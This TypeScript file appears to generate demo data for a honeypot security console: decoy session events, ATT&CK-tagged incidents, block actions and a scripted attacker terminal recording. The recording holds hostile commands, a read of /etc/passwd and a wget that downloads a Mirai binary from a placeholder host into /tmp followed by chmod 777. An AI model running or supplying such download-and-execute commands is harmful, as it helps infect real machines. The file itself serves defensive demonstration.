/** A believable month on one install, for pages and pictures of the console: events, incidents, what was done, decoys, recordings. The same each time but for the clock. */
import type { Action } from '@netsentinel/contracts/action';
import type { Severity } from '@netsentinel/contracts/detection';
import type { Event } from '@netsentinel/contracts/event';
import type { Incident } from '@netsentinel/contracts/incident';
import { sampleEvent } from '@netsentinel/store/bench/sample-events';
import type { ApiHarness } from './api-harness.ts';
import { sampleBlock, sampleIncident } from './sample-incidents.ts';
import { fillResponse } from './sample-response.ts';

const HOUR = 3_600_000;
const EVENTS = 6_000;
const SESSIONS = 400;
const INCIDENTS = 60;

const PROTOCOLS = ['ssh', 'http', 'ssh', 'telnet', 'redis', 'smb', 'ssh', 'rdp', 'mysql', 'http', 'ftp'];

const KINDS: readonly {
  readonly title: string;
  readonly severity: Severity;
  readonly score: number;
  readonly techniques: string[];
  readonly tactics: string[];
}[] = [
  {
    title: 'Brute-forced login, then a bot was fetched and started',
    severity: 'critical',
    score: 94,
    techniques: ['T1110.001', 'T1078', 'T1059.004', 'T1105'],
    tactics: ['TA0006', 'TA0001', 'TA0002', 'TA0011'],
  },
  {
    title: 'Many failed logins',
    severity: 'medium',
    score: 48,
    techniques: ['T1110.001'],
    tactics: ['TA0006'],
  },
  {
    title: 'Port scan of nine services',
    severity: 'low',
    score: 22,
    techniques: ['T1595.001', 'T1046'],
    tactics: ['TA0043', 'TA0007'],
  },
  {
    title: 'Log4Shell was tried on a web decoy',
    severity: 'high',
    score: 76,
    techniques: ['T1190', 'T1059.004'],
    tactics: ['TA0001', 'TA0002'],
  },
  {
    title: 'Redis was told to write an SSH key',
    severity: 'high',
    score: 81,
    techniques: ['T1098.004', 'T1105'],
    tactics: ['TA0003', 'TA0011'],
  },
  { title: 'One login was tried', severity: 'info', score: 8, techniques: ['T1110.003'], tactics: ['TA0006'] },
];
const STATUSES: readonly Incident['status'][] = ['open', 'open', 'contained', 'closed'];

/** Fills the stores of a harness. `now`: epoch ms of the latest moment. @returns what it put there */
export async function fillWorld(
  h: ApiHarness,
  now = Date.now(),
): Promise<{ readonly incidents: readonly Incident[]; readonly actions: readonly Action[] }> {
  const start = now - 24 * HOUR;
  for (let at = 0; at < EVENTS; at += 1_000)
    await h.events.append(
      Array.from({ length: 1_000 }, (_, n) => sampleEvent(at + n, start, EVENTS / 86_400)),
      [],
    );
  await h.events.append(
    Array.from({ length: 2 * SESSIONS }, (_, n) => visitOf(n, start)),
    [],
  );
  const incidents = Array.from({ length: INCIDENTS }, (_, n) => incidentOf(n, now));
  const actions = incidents
    .filter(({ status }) => status === 'contained')
    .map((incident, n) =>
      sampleBlock(`act-${n}`, incident, incident.lastSeen, {
        status: incident.lastSeen > now - HOUR ? 'verified' : 'expired',
      }),
    );
  await h.state.transaction(async (tx) => {
    for (const incident of incidents) await tx.putIncident(incident);
    for (const action of actions) await tx.putAction(action);
  });
  await fillResponse(h, incidents, now);
  for (const incident of incidents.slice(0, 3)) await record(h, incident);
  return { incidents, actions };
}

/** The beginning or the end of a visit to a decoy. */
function visitOf(n: number, start: number): Event {
  const session = Math.floor(n / 2);
  const isEnd = n % 2 === 1;
  const protocol = PROTOCOLS[(session * 7) % PROTOCOLS.length]!;
  const event = sampleEvent(session * 12, start, (SESSIONS * 12) / 86_400);
  const lastedMs = 2_000 + ((session * 7_919) % 240_000);
  return {
    ...event,
    '@timestamp': new Date(Date.parse(event['@timestamp']) + (isEnd ? lastedMs : 0)).toISOString(),
    message: isEnd ? 'Disconnected' : 'Connected',
    network: { ...event.network, protocol },
    event: {
      ...event.event,
      id: `visit~${n.toString(36)}`,
      category: ['session'],
      type: [isEnd ? 'end' : 'start'],
      action: `${protocol}-${isEnd ? 'disconnect' : 'connect'}`,
      outcome: 'success',
      ...(isEnd ? { duration: lastedMs * 1e6 } : {}),
    },
    netsentinel: { ...event.netsentinel, decoy: { id: protocol, type: protocol } },
  };
}

/** The last one is now; older ones lie further and further apart. */
function incidentOf(n: number, now: number): Incident {
  const kind = KINDS[n % KINDS.length]!;
  const address = `203.0.113.${(n * 7) % 250}`;
  return sampleIncident(`inc-${n}`, Math.round(now - (n * n * 0.18 + 0.02) * HOUR), {
    title: kind.title,
    severity: kind.severity,
    score: kind.score,
    techniques: kind.techniques,
    tactics: kind.tactics,
    actor: address,
    addresses: [address],
    status: STATUSES[n % STATUSES.length]!,
    // As the events of this world have it.
    fingerprints: [
      { kind: 'hassh', value: '0df0d56bb50c6b2426d8d40234bf1826' },
      { kind: 'ssh-client', value: 'SSH-2.0-Go' },
    ],
  });
}

/** What the attacker of a `sampleIncident` saw: the terminal from their login on. */
async function record(h: ApiHarness, { sessions, timeline }: Incident): Promise<void> {
  const writer = await h.blobs.openRecording(sessions[0]!.recording!);
  const login = timeline.find(({ title }) => title.startsWith('Logged in'))!.time;
  const lines = [JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(login / 1000) })];
  const typed: readonly (readonly [seconds: number, text: string])[] = [
    [
      0.4,
      'uname -a\r\nLinux web 6.1.0-31-amd64 #1 SMP x86_64 GNU/Linux\r\nroot@web:~# cat /etc/passwd | head -1\r\nroot:x:0:0:root:/root:/bin/bash\r\nroot@web:~# ',
    ],
    [17, 'uname -a; cat /proc/cpuinfo | grep name | wc -l\r\n2\r\nroot@web:~# '],
    [71, 'wget http://198.51.100.9/bins/mirai.x86 -O /tmp/.x\r\n/tmp/.x saved\r\nroot@web:~# chmod 777 /tmp/.x\r\n'],
  ];
  lines.push(JSON.stringify([0.1, 'o', 'root@web:~# ']));
  for (const [seconds, text] of typed) {
    let at = seconds;
    for (const piece of text.match(/.{1,6}|\r\n/gs) ?? []) lines.push(JSON.stringify([(at += 0.06), 'o', piece]));
  }
  await writer.append(Buffer.from(`${lines.join('\n')}\n`));
  await writer.close();
}
